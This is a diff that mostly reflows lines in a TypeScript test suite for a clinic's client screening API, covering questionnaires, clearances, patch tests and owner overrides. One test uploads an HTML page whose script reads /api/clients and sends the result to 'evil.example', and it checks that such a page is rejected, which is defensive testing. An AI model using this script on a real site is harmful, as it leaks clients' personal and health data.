@@ -24,7 +24,10 @@ const noToAll = () => Object.fromEntries(CURRENT_SCREENING_QUESTIONNAIRE.questio
 let clientNumber = 0;
 async function newClient() {
   clientNumber += 1;
-  const response = await testApp.as('receptionist').post('/api/clients').send({ firstName: 'Client', lastName: `Number${clientNumber}`, phone: `(415) 555-01${String(clientNumber).padStart(2, '0')}` });
+  const response = await testApp
+    .as('receptionist')
+    .post('/api/clients')
+    .send({ firstName: 'Client', lastName: `Number${clientNumber}`, phone: `(415) 555-01${String(clientNumber).padStart(2, '0')}` });
   return response.body.id as string;
 }
 
@@ -40,7 +43,10 @@ async function storedFiles(): Promise<string[]> {
 }
 
 const eligibility = (clientId: string, role: 'artist' | 'receptionist' | 'owner' = 'artist') =>
-  testApp.as(role).get(`/api/clients/${clientId}/eligibility`).then((response) => response.body);
+  testApp
+    .as(role)
+    .get(`/api/clients/${clientId}/eligibility`)
+    .then((response) => response.body);
 
 describe('signing a screening', () => {
   it('records the answers, the signature and the questionnaire version, valid for the clinic’s 90 days', async () => {
@@ -166,8 +172,7 @@ describe('clearing items', () => {
   it('refuses web pages and PDFs that could run something, and leaves neither files nor rows behind', async () => {
     const clientId = await newClient();
     const screening = (await screen(clientId, { diabetes: { answer: true } })).body;
-    const attach = (file: Buffer, name: string) =>
-      testApp.as('artist').post(`/api/screenings/${screening.id}/clearances`).field('questionId', 'diabetes').attach('file', file, name);
+    const attach = (file: Buffer, name: string) => testApp.as('artist').post(`/api/screenings/${screening.id}/clearances`).field('questionId', 'diabetes').attach('file', file, name);
     const before = await storedFiles();
     const page = '<html><body><script>fetch("/api/clients").then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, "https://evil.example"))</script></body></html>';
 
@@ -202,9 +207,15 @@ describe('clearing items', () => {
     const passed = await testApp.as('artist').post(`/api/clients/${clientId}/patch-tests`).send(test);
     expect(passed.status).toBe(201);
     expect(await eligibility(clientId)).toMatchObject({ eligible: true, status: { state: 'clear' } });
-    await testApp.as('artist').post(`/api/clients/${clientId}/patch-tests`).send({ ...test, appliedOn: '2026-01-10', readOn: '2026-01-12', result: 'failed' });
+    await testApp
+      .as('artist')
+      .post(`/api/clients/${clientId}/patch-tests`)
+      .send({ ...test, appliedOn: '2026-01-10', readOn: '2026-01-12', result: 'failed' });
     expect(await eligibility(clientId)).toMatchObject({ eligible: false, status: { state: 'not_suitable' } });
-    const invalid = await testApp.as('artist').post(`/api/clients/${clientId}/patch-tests`).send({ ...test, readOn: '2026-01-01' });
+    const invalid = await testApp
+      .as('artist')
+      .post(`/api/clients/${clientId}/patch-tests`)
+      .send({ ...test, readOn: '2026-01-01' });
     expect(invalid.body.errors).toEqual([{ field: 'readOn', message: 'Cannot be before it was applied' }]);
   });
 });
@@ -243,10 +254,20 @@ describe('the treatment block', () => {
     await screen(clientId, { diabetes: { answer: true } });
     const inAMonth = dayFromToday(30);
     const override = { reason: 'GP confirmed by phone; letter follows by post.', validUntil: inAMonth };
-    const tooLong = await testApp.as('owner').post(`/api/clients/${clientId}/eligibility-overrides`).send({ ...override, validUntil: '2099-12-31' });
+    const tooLong = await testApp
+      .as('owner')
+      .post(`/api/clients/${clientId}/eligibility-overrides`)
+      .send({ ...override, validUntil: '2099-12-31' });
     expect(tooLong.body.errors).toEqual([{ field: 'validUntil', message: expect.stringMatching(/^Choose a day from .* to .*/) }]);
     expect((await testApp.as('artist').post(`/api/clients/${clientId}/eligibility-overrides`).send(override)).status).toBe(403);
-    expect((await testApp.as('owner').post(`/api/clients/${clientId}/eligibility-overrides`).send({ ...override, reason: 'ok' })).status).toBe(400);
+    expect(
+      (
+        await testApp
+          .as('owner')
+          .post(`/api/clients/${clientId}/eligibility-overrides`)
+          .send({ ...override, reason: 'ok' })
+      ).status,
+    ).toBe(400);
     const granted = await testApp.as('owner').post(`/api/clients/${clientId}/eligibility-overrides`).send(override);
     expect(granted.status).toBe(201);
     expect(granted.body).toMatchObject({
@@ -271,7 +292,12 @@ describe('screening status wherever the client appears', () => {
     await screen(clientId, { pregnant_breastfeeding: { answer: true } });
     const client = (await testApp.as('receptionist').get(`/api/clients/${clientId}`)).body;
     expect(client.screening).toMatchObject({ state: 'defer', eligible: false, deferUntil: null });
-    const listed = (await testApp.as('receptionist').get('/api/clients').query({ q: `Number${clientNumber}` })).body.items;
+    const listed = (
+      await testApp
+        .as('receptionist')
+        .get('/api/clients')
+        .query({ q: `Number${clientNumber}` })
+    ).body.items;
     expect(listed[0].screening).toEqual(client.screening);
   });
 });
